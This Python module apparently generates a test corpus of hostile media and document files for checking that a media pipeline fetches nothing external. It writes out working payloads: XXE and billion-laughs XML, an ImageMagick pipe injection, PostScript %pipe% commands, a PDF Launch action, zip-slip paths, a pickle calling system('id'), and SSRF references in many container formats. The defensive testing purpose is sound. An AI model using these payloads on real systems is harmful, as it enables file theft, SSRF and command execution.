"""Files that ask for other files or for the network; nothing may be fetched for them.

Every address is the one given, so that a listener there can hear whether anybody asks.
"""

import io
import struct
import zipfile

from nasties.boxes import added, box, full_box, with_body, words
from nasties.carriers import (
    clip,
    drawing,
    encoded,
    jpeg_segment,
    picture,
    png,
    png_chunk,
    with_segments,
)
from nasties.nasty import Made, nasty
from nasties.streams import element

SECRET = "/etc/passwd"
"""A local file that every system has; nothing of it may reach a report."""


def references(address: str) -> Made:
    """Make files that refer to other files and to the network.

    Parameters
    ----------
    address : str
        Host and port to refer to, such as ``127.0.0.1:9``.

    Yields
    ------
    Nasty, bytes
        Description and content.
    """
    for endings, label, text in _texts(address):
        for ending in endings.split():
            what = f"{label} named like media"
            yield nasty(f"references/{label}.{ending}", what, "unread"), text.encode()
    for label, what, status, data in (*_media(address), *_documents(address)):
        yield nasty(f"references/{label}", what, status), data


def _texts(address: str) -> list[tuple[str, str, str]]:
    url = f"http://{address}"
    entity = f'<!DOCTYPE s [<!ENTITY x SYSTEM "{url}/entity"><!ENTITY f SYSTEM "file://{SECRET}">]>'
    return [
        ("mp4 jpg ts", "playlist", f"#EXTM3U\n#EXTINF:10,\n{url}/a.ts\nfile://{SECRET}\n"),
        ("mp4 mov", "playlist-live", "#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:5\n"
         f'#EXT-X-KEY:METHOD=AES-128,URI="{url}/key"\n#EXT-X-MAP:URI="{url}/init"\n#EXTINF:5,\n'
         f"{url}/b.ts\n#EXT-X-ENDLIST\n"),
        ("mp4 avi", "concat", f"ffconcat version 1.0\nfile '{SECRET}'\nfile '{url}/c.mp4'\n"),
        ("mp4", "concat-name", f"concat:{SECRET}|{url}/d.ts\n"),
        ("mp4", "data-name", "data:image/png;base64,iVBORw0KGgo=\n"),
        ("mp4", "subfile-name", f"subfile,,start,0,end,99,,:{SECRET}\n"),
        ("mp4 jpg", "sdp", "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 "
         f"{address.split(':')[0]}\nt=0 0\nm=video {address.split(':')[-1]} RTP/AVP 96\n"
         "a=rtpmap:96 H264/90000\n"),
        ("mp4 webm", "dash", '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" '
         f'type="static"><BaseURL>{url}/</BaseURL><Period><AdaptationSet mimeType="video/mp4">'
         f'<Representation id="1" bandwidth="1"><BaseURL>{url}/e.mp4</BaseURL></Representation>'
         "</AdaptationSet></Period></MPD>"),
        ("mp4", "smooth", f'<?xml version="1.0"?><SmoothStreamingMedia Url="{url}/f"/>'),
        ("jpg png", "svg", f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org'
         f'/1999/xlink"><image xlink:href="{url}/g.png"/><image xlink:href="file://{SECRET}"/>'
         "<script>alert(1)</script></svg>"),
        ("jpg", "svg-entity", f'<?xml version="1.0"?>{entity}<svg><text>&x;&f;</text></svg>'),
        ("mp4", "xspf", f'<?xml version="1.0"?><playlist version="1"><trackList><track><location>'
         f"{url}/h</location></track></trackList></playlist>"),
        ("mp4 wmv", "asx", f'<ASX version="3"><Entry><Ref href="{url}/i.wmv"/></Entry></ASX>'),
        ("mp4", "pls", f"[playlist]\nFile1={url}/j\nNumberOfEntries=1\n"),
        ("mov", "smil", f'SMILtext<smil><body><video src="{url}/k.mov"/></body></smil>'),
        ("mov", "quicktime-link", f'<?xml version="1.0"?><?quicktime type="application/'
         f'x-quicktime-media-link"?><embed src="{url}/l.mov" autoplay="true"/>'),
        ("mp4", "real-text", f"[Reference]\nRef1={url}/m\n"),
        ("jpg", "html", f'<!doctype html><img src="{url}/n.png"><meta http-equiv="refresh" '
         f'content="0;url={url}">'),
        ("jpg png gif", "magick-vector", "push graphic-context\nviewbox 0 0 64 48\nfill "
         f"'url({url}/o.png\"|id>/tmp/owned\")'\npop graphic-context\n"),
        ("jpg", "magick-script", f'<?xml version="1.0"?><image><read filename="{url}/p"/></image>'),
        ("jpg", "postscript", "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n"
         "(%pipe%id>/tmp/owned) (w) file closefile\nshowpage\n"),
        ("jpg", "windows-link", f"[InternetShortcut]\nURL={url}/q\nIconFile=\\\\{address}\\r\n"),
        ("mp4", "strm", f"{url}/s\n"),
        ("mp4", "subtitles", "1\n00:00:00,000 --> 00:00:05,000\n"
         f'<img src="{url}/t"><script>alert(1)</script>\n'),
        ("mkv", "web-subtitles", f"WEBVTT\n\nSTYLE\n::cue {{background:url({url}/u)}}\n"),
        ("mp4", "edit-list", f"# mpv EDL v0\n{url}/v,0,5\n"),
        ("avi", "avisynth", f'DirectShowSource("{url}/w.avi")\n'),
        ("mp4", "session", f"RTSPtext\nrtsp://{address}/x\n"),
    ]  # fmt: skip


def _media(address: str) -> list[tuple[str, str, str, bytes]]:
    url = f"http://{address}".encode()
    mov = clip("references", "mov", "libx264")
    jpeg, heic = picture("references", "JPEG"), picture("references", "HEIF")
    xmp = _xmp(f"http://{address}")
    started = b"\0\0\0\x14ftypqt  \0\0\0\0qt  "
    return [
        ("movie-url.mov", "a reference movie that names an address", "rejected",
         started + box(b"moov", _reference(b"url ", url + b"/rmra.mov\0"))),
        ("movie-file.mov", "a reference movie that names a file", "rejected",
         started + box(b"moov", _reference(b"alis", _alias(SECRET)))),
        ("movie-both.mov", "a sound clip that is a reference movie, too", "ok|degraded",
         added(mov, b"moov", _reference(b"url ", url + b"/rmra.mov\0"))),
        ("dref-url.mov", "pictures that are at an address", "ok|degraded|rejected",
         _with_reference(mov, full_box(b"url ", url + b"/dref.mov\0"))),
        ("dref-alias.mov", "pictures that are in another file", "ok|degraded|rejected",
         _with_reference(mov, full_box(b"alis", _alias(SECRET)))),
        ("dref-resource.mov", "pictures that are in another fork", "ok|degraded|rejected",
         _with_reference(mov, full_box(b"rsrc", _alias(SECRET)))),
        ("dref-url.mp4", "an MP4 whose pictures are at an address", "rejected|degraded|ok",
         _with_reference(clip("references mp4", "mp4", "libx264"),
                         full_box(b"url ", url + b"/dref.mp4\0"))),
        ("dref-name.mp4", "an MP4 whose pictures have a name", "rejected|degraded|ok",
         _with_reference(clip("references urn", "mp4", "libx264"),
                         full_box(b"urn ", b"urn:x\0" + url + b"\0"))),
        ("manifest.mp4", "a provenance box that names an address", "ok",
         clip("provenance", "mp4", "libx264") + box(b"uuid", bytes.fromhex(
             "d8fec3d61b0e483c92975828877ec481"), url)),
        ("tags.mp4", "tags that are addresses", "ok",
         clip("tags", "mp4", "libx264", tags={"title": url.decode(), "comment": f"file://{SECRET}"})),
        ("script.wmv", "a clip with a command to open an address", "ok|degraded",
         _with_command(clip("command", "asf", "wmv2"), f"http://{address}/asf")),
        ("linked.mkv", "a clip that goes on in another file", "ok|degraded",
         _linked(clip("linked", "matroska", "mpeg4"), url)),
        ("xmp.jpg", "XMP with external entities and a remote manifest", "ok",
         with_segments(jpeg, jpeg_segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + xmp))),
        ("xmp-extended.jpg", "XMP that goes on in segments that are not there", "ok",
         with_segments(jpeg, jpeg_segment(0xE1, b"http://ns.adobe.com/xmp/extension/\0"
                                          + b"A" * 32 + words(0xFFFFFFFF, 0) + xmp[:500]))),
        ("icc-remote.jpg", "a colour profile that is at an address", "ok",
         with_segments(jpeg, jpeg_segment(0xE2, b"ICC_PROFILE\0\1\1" + bytes(128)
                                          + url + b"/profile.icc"))),
        ("xmp.png", "XMP with external entities", "ok",
         png(64, 64, before=png_chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + xmp),
             pixels=_flat())),
        ("xmp.webp", "XMP with external entities", "ok",
         encoded(drawing("xmp webp"), "WEBP", xmp=xmp)),
        ("xmp.tif", "XMP with external entities", "ok",
         encoded(drawing("xmp tiff"), "TIFF", tiffinfo={700: xmp})),
        ("xmp.gif", "XMP with external entities", "ok",
         (gif := picture("xmp gif", "GIF"))[:781] + b"\x21\xff\x0bXMP DataXMP"
         + b"".join(bytes((len(part),)) + part for part in (xmp[:200], xmp[200:400])) + b"\0"
         + gif[781:]),
        ("dref.heic", "a picture whose data are at an address", "ok|degraded|rejected",
         heic.replace(b"url \0\0\0\1", b"url \0\0\0\0")),
        ("cover-link.mp3", "a cover picture that is at an address", "degraded",
         _mp3_with_link(url)),
        ("pattern-%03d.jpg", "a name that some programs take for a series of names", "ok",
         picture("pattern", "JPEG")),
        ("pipe:0.mp4", "a name that some programs take for a stream", "ok",
         clip("pipe", "mp4", "libx264", seconds=1)),
        (f"concat:{'a.mp4|b'}.mp4", "a name that some programs take for two", "ok",
         clip("concat", "mp4", "libx264", seconds=1)),
        ("http:127.0.0.1.mp4", "a name that some programs take for an address", "ok",
         clip("http", "mp4", "libx264", seconds=1)),
    ]  # fmt: skip


def _documents(address: str) -> list[tuple[str, str, str, bytes]]:
    url = f"http://{address}"
    pdf = (
        f"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI({url}/pdf)>>/AA<</O<</S/Launch/F"
        f"({SECRET})>>>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
    ).encode()
    relations = f'<Relationships><Relationship TargetMode="External" Target="{url}/dotm"/>'
    mxf = bytes.fromhex("060e2b34020501010d01020101020400") + b"\x83\0\0\x78" + url.encode()
    return [
        ("document.pdf", "a PDF that opens an address", "unread", pdf),
        ("document.jpg", "a PDF named like a picture", "unread", pdf),
        ("document.docx", "a document with a template at an address", "unread",
         _zip({"word/_rels/settings.xml.rels": relations})),
        ("archive.png", "an archive with paths that lead out of it", "unread",
         _zip({"../../../../tmp/owned": "x", "/tmp/owned2": "x"})),
        ("essence.mp4", "an MXF file whose pictures are elsewhere", "unread", mxf + bytes(200)),
        ("real.rm", "a RealMedia file that names an address", "unread",
         b".RMF\0\0\0\x12" + bytes(10) + url.encode()),
        ("metafile.wmf", "a metafile that runs a program", "unread",
         b"\xd7\xcd\xc6\x9a" + bytes(18) + b"\x01\0\x09\0\0\3" + bytes(12) + b"\x26\6\x09\0"
         + bytes(30)),
        ("eps-binary.jpg", "PostScript with a preview", "unread",
         b"\xc5\xd0\xd3\xc6" + struct.pack("<II", 30, 200) + bytes(18)
         + b"%!PS (%pipe%id) (r) file"),
        ("program.jpg", "a program", "unread", b"\x7fELF\2\1\1" + bytes(200)),
        ("windows.mp4", "a program of Windows", "unread", b"MZ\x90\0" + bytes(200)),
        ("pickle.png", "a pickle that runs a program", "unread",
         b"\x80\4cposix\nsystem\n(X\x0f\0\0\0id > /tmp/ownedtR."),
    ]  # fmt: skip


def _xmp(url: str) -> bytes:
    laughs = "".join(
        f'<!ENTITY l{depth} "{f"&l{depth - 1};" * 10}">' for depth in range(1, 10)
    )  # each ten times the one before: a billion
    return (
        '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>'
        f'<!DOCTYPE x [<!ENTITY e SYSTEM "{url}/xmp"><!ENTITY f SYSTEM "file://{SECRET}">'
        f'<!ENTITY % p SYSTEM "{url}/dtd">%p;<!ENTITY l0 "ha">{laughs}]>'
        '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf'
        f'-syntax-ns#"><rdf:Description xmlns:dcterms="http://purl.org/dc/terms/" '
        f'dcterms:provenance="{url}/manifest.c2pa" xmlns:tiff="http://ns.adobe.com/tiff/1.0/" '
        'tiff:Orientation="6"><a>&e;&f;&l9;</a></rdf:Description></rdf:RDF></x:xmpmeta>'
    ).encode()


def _flat() -> bytes:
    import zlib

    return zlib.compress(bytes(64 * (64 * 3 + 1)))


def _reference(kind: bytes, target: bytes) -> bytes:
    inside = full_box(b"rdrf", kind, words(len(target)), target)
    return box(b"rmra", box(b"rmda", inside))


def _alias(path: str) -> bytes:
    """Build an alias record of the Macintosh, version 2, that names a file."""
    name = path.rsplit("/", 1)[-1].encode()
    head = bytes(4) + struct.pack(">HHH", 150 + len(path) + 10, 2, 0)
    volume = b"\x04root".ljust(28, b"\0")
    file = (bytes((len(name),)) + name).ljust(64, b"\0")
    fixed = head + volume + bytes(4) + b"H+" + bytes(6) + file + bytes(16)
    level = struct.pack(">HH", 1, 1) + bytes(16)
    text = path.encode()
    padded = text + bytes(len(text) % 2)
    return fixed + level + struct.pack(">HH", 18, len(text)) + padded + b"\xff\xff\0\0"


def _with_reference(data: bytes, reference: bytes) -> bytes:
    return with_body(data, b"dref", words(0, 1) + reference)


def _with_command(wmv: bytes, url: str) -> bytes:
    """Add a script command object to the header of an ASF file."""
    text = url.encode("utf-16-le")
    command = struct.pack("<IHH", 0, 0, len(text) // 2) + text
    kind = "URL".encode("utf-16-le")
    body = bytes(16) + struct.pack("<HH", 1, 1) + struct.pack("<H", 3) + kind + command
    guid = bytes.fromhex("301afb1e620bd011a39b00a0c90348f6")
    thing = guid + struct.pack("<Q", len(body) + 24) + body
    size = int.from_bytes(wmv[16:24], "little")
    count = int.from_bytes(wmv[24:28], "little")
    header = wmv[:16] + struct.pack("<QI", size + len(thing), count + 1) + wmv[28:30]
    return header + wmv[30:size] + thing + wmv[size:]


def _linked(mkv: bytes, url: bytes) -> bytes:
    """Say in the header of a Matroska file that it goes on elsewhere."""
    at = mkv.index(b"\x15\x49\xa9\x66")
    link = element(b"\x3e\xb9\x23", bytes(range(16))) + element(b"\x3e\x83\xbb", url + b"/next.mkv")
    void_size = len(element(b"\x15\x49\xa9\x66", link))
    # The segment's size is unknown to nobody who reads on, so the clip stays whole behind it.
    grown = mkv[:at] + element(b"\x15\x49\xa9\x66", link) + mkv[at:]
    start = mkv.index(b"\x18\x53\x80\x67") + 4
    size = int.from_bytes(mkv[start + 1 : start + 8], "big") + void_size
    return grown[: start + 1] + size.to_bytes(7, "big") + grown[start + 8 :]


def _mp3_with_link(url: bytes) -> bytes:
    from nasties.carriers import tone
    from nasties.streams import _id3

    return _id3(b"APIC", b"\0-->\0\3\0" + url + b"/cover.jpg") + tone("mp3", "libmp3lame")[45:]


def _zip(files: dict[str, str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, text in files.items():
            archive.writestr(zipfile.ZipInfo(name, (2020, 1, 1, 0, 0, 0)), text)
    return buffer.getvalue()
